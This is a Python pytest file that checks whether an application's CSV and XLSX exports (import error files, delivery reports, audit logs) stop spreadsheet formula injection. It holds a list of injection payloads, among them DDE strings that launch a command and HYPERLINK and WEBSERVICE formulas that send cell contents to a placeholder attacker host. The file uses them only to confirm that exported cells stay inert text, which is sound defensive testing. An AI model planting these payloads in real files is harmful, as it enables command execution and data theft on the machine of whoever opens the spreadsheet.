"""What somebody typed never runs in the spreadsheet of whoever downloads it, in any export there is."""

import csv
import io
from collections.abc import Callable, Mapping, Sequence
from typing import Any, Final

import pytest
from hypothesis import given
from hypothesis import strategies as st
from openpyxl import load_workbook

from tests.cast import Cast, roster
from tests.security.surface import Sample
from utils.csv_cells import csv_line, original

XLSX: Final = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
EXPORTED: Final = ("text/csv", XLSX)
SIGNS: Final = ("=", "+", "-", "@", "\uff1d", "\uff0b", "\uff0d", "\uff20", "\N{MINUS SIGN}", "\ufe63")
PAYLOADS: Final = (
    "=1+1",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("https://evil.example/?"&A1,"Click")',
    '=WEBSERVICE("https://evil.example/"&A1)',
    '=IMPORTXML("https://evil.example","//a")',
    '=DDE("cmd";"/C calc";"a")',
    "+1+1",
    "+cmd|' /C calc'!A0",
    "-1+1",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "@A1",
    "\uff1d1+1",
    "\uff0b1+1",
    "\uff0d1+1",
    "\uff20SUM(1)",
    "\N{MINUS SIGN}1+1",
    "\ufe631+1",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\r\n=1+1",
    " =1+1",
    "\u00a0=1+1",
    "\ufeff=1+1",
    "\u200b=1+1",
    "a;=1+1",
    "a\t=1+1",
    'a";=1+1',
    'x","=1+1',
)


class Stage:
    """A campus in which whatever somebody typed is one of the payloads."""

    def __init__(self, cast: Cast, db: Any, at_rest: Callable[[], None]) -> None:
        self.admin, self.batch_id, self.campus_id = cast.north.admin, cast.north.batch_id, cast.north.id
        self.db, self.at_rest = db, at_rest

    def upload(self, *lines: str, **form: str) -> Any:
        """Upload a roster; return the import when it has come to rest."""
        sent = {"batch_id": self.batch_id, "file": roster(*lines), **form}
        made = self.admin.post("/student_management/imports", status=202, data=sent)
        self.at_rest()
        return self.admin.get(f"/student_management/imports/{made['id']}")


def error_file(stage: Stage) -> str:
    """Rows that are refused, and their errors, hold the payloads."""
    made = stage.upload(*(f"CSE,R{n},Name {n},not-a-number," for n in range(len(PAYLOADS))))
    rows = stage.db.import_rows.find({"import_id": made["id"]}).sort("row", 1)
    for row, payload in zip(rows, PAYLOADS, strict=True):
        told = [{"column": "Student Name", "detail": payload}]
        values = {**row["values"], "name": payload, "roll_number": payload}
        stage.db.import_rows.update_one({"_id": row["_id"]}, {"$set": {"values": values, "errors": told}})
    return f"/student_management/imports/{made['id']}/errors.csv"


def report(stage: Stage) -> str:
    """Names of recipients and what a provider said hold the payloads."""
    lines = (f"CSE,R{n},Name {chr(97 + n % 26)},,r{n}@example.com" for n in range(len(PAYLOADS)))
    job_id = stage.upload(*lines, dry_run="false", channels="email")["job_id"]
    told = stage.db.deliveries.find({"job_id": job_id}).sort("_id", 1)
    for delivery, payload in zip(told, PAYLOADS, strict=True):
        words = dict.fromkeys(("name", "last_error", "provider_message_id"), payload)
        stage.db.deliveries.update_one({"_id": delivery["_id"]}, {"$set": words})
    return f"/batch_processing/jobs/{job_id}/report.csv"


def audit_log(stage: Stage) -> str:
    """Rows hold the payloads wherever they hold text."""
    stage.at_rest()
    known = stage.db.audit.find_one({"campus_id": stage.campus_id})
    words = ("actor_id", "target", "request_id", "action")
    for number, payload in enumerate(PAYLOADS):
        row = {**known, "_id": f"{number:024x}", **dict.fromkeys(words, payload), "detail": {"name": payload}}
        stage.db.audit.insert_one(row | dict.fromkeys(("seq", "prev", "hash")))
    return "/audit/export.csv"


# How each export comes to hold what somebody typed; one that holds nothing of the kind has nothing to do.
STAGES: Final[Mapping[str, Callable[[Stage], str] | None]] = {
    "audit.export_records": audit_log,
    "batch_processing.report": report,
    "student_imports.error_file": error_file,
    "student_imports.template": None,
}


def exports(surface: Sequence[Sample]) -> list[Sample]:
    return [sample for sample in surface if not set(EXPORTED).isdisjoint(sample.spec.media_types)]


def cells_of(content: bytes, media_type: str) -> list[tuple[str, str]]:
    """Return the cells of an export with how a spreadsheet types them, however it splits lines."""
    if media_type == XLSX:
        sheets = load_workbook(io.BytesIO(content)).worksheets
        return [
            (str(c.value), c.data_type)
            for sheet in sheets
            for row in sheet.iter_rows()
            for c in row
            if c.value
        ]
    text = content.decode("utf-8-sig")
    return [
        (cell, "s")
        for delimiter in (",", ";", "\t")
        for row in csv.reader(io.StringIO(text, newline=""), delimiter=delimiter)
        for cell in row
    ]


def run(cells: list[tuple[str, str]]) -> list[str]:
    """Return the cells that a spreadsheet would run."""
    return [cell for cell, kind in cells if kind != "s" or _begins_like_a_formula(cell)]


def _begins_like_a_formula(cell: str) -> bool:
    return cell.lstrip(" \u00a0\ufeff\u200b\t\r\n").startswith(SIGNS)


def test_every_export_was_thought_of(surface: Sequence[Sample]) -> None:
    assert {sample.name for sample in exports(surface)} == STAGES.keys(), (
        "say how the new one comes to hold text"
    )


@pytest.mark.parametrize("name", STAGES)
def test_no_cell_of_an_export_is_a_formula(
    name: str, surface: Sequence[Sample], cast: Cast, db: Any, at_rest: Callable[[], None]
) -> None:
    stage, make = Stage(cast, db, at_rest), STAGES[name]
    (sample,) = (one for one in surface if one.name == name)
    urls = [make(stage)] if make else [f"{sample.url}?format={kind}" for kind in ("csv", "xlsx")]

    for url in urls:
        reply = stage.admin.http.get(url)
        assert reply.status_code == 200
        assert reply.headers["Content-Disposition"].startswith("attachment")
        cells = cells_of(reply.get_data(), str(reply.mimetype))
        held = [payload for payload in PAYLOADS if any(payload.strip()[-3:] in cell for cell, _ in cells)]
        assert run(cells) == []
        assert make is None or len(held) == len(PAYLOADS)


@pytest.mark.parametrize("payload", PAYLOADS)
def test_no_payload_gets_through_a_line(payload: str) -> None:
    line = csv_line(["before", payload, f"word {payload}", "after"]).encode()

    assert run(cells_of(line, "text/csv")) == []


@given(st.text(st.sampled_from("'=+-@;\t \ufeff\uff1d\u2212,\"a0."), max_size=12))
def test_a_cell_that_was_made_neutral_is_text_and_can_be_read_back(cell: str) -> None:
    (cells,) = csv.reader([csv_line([cell])])

    assert original(cells[0] if cells else "") == cell
    assert run(cells_of(csv_line(["a", cell]).encode(), "text/csv")) == []
